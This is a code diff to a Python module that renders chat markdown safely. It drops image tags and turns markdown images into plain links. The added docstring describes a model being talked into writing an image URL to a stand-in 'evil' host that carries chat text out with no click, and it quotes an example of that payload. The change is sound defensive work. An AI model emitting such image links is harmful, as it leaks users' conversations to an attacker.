@@ -3,6 +3,10 @@
 Everything shown in the chat comes from users or models, so it is untrusted: markdown-it runs with raw
 HTML disabled, and its output still goes through nh3 with a strict allow-list, so a bug or an unusual
 construct in the markdown layer cannot smuggle a script, an event handler or a `javascript:` URL.
+
+Markdown images become plain links: a model can be talked into writing `![x](https://evil/?d=<chat
+text>)`, and an image the page loads by itself would send that text away with no click. The pages'
+CSP (`img-src 'self' data:`) blocks remote images as a second line.
 """
 
 from __future__ import annotations
@@ -23,12 +27,11 @@ DARK_STYLE = "github-dark"
 
 _ALLOWED_TAGS = {
     "a", "b", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
-    "hr", "i", "img", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody",
+    "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody",
     "td", "th", "thead", "tr", "ul",
 }
 _ALLOWED_ATTRIBUTES = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "code": {"class"},
     "pre": {"class", "data-lang"},
     "span": {"class"},
@@ -54,11 +57,26 @@ def _highlight(code: str, lang: str, _attrs: str) -> str:
     return f'<pre class="{CODE_CSS_CLASS}" data-lang="{label}"><code>{body}</code></pre>\n'
 
 
+def _image_as_link(_renderer, tokens, idx, _options, _env) -> str:
+    """`![alt](src "title")` → a link to the image, labelled with its alt text (or the address)."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = "".join(child.content for child in token.children or []) or src
+    depth = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx])
+    if depth > 0:
+        # Already inside a link (`[![badge](img)](href)`): links cannot nest, the outer one stands.
+        return html.escape(alt)
+    title = str(token.attrGet("title") or "")
+    title_attr = f' title="{html.escape(title, quote=True)}"' if title else ""
+    return f'<a href="{html.escape(src, quote=True)}"{title_attr}>{html.escape(alt)}</a>'
+
+
 _md = (
     MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight})
     .enable("table")
     .enable("strikethrough")
 )
+_md.add_render_rule("image", _image_as_link)
 
 
 def _sanitize(fragment: str) -> str:
@@ -68,7 +86,7 @@ def _sanitize(fragment: str) -> str:
         clean_content_tags={"script", "style"},
         attributes=_ALLOWED_ATTRIBUTES,
         url_schemes=_URL_SCHEMES,
-        link_rel="noopener noreferrer",
+        link_rel="noopener noreferrer nofollow",
         set_tag_attribute_values={"a": {"target": "_blank"}},
         filter_style_properties=_STYLE_PROPERTIES,
         strip_comments=True,
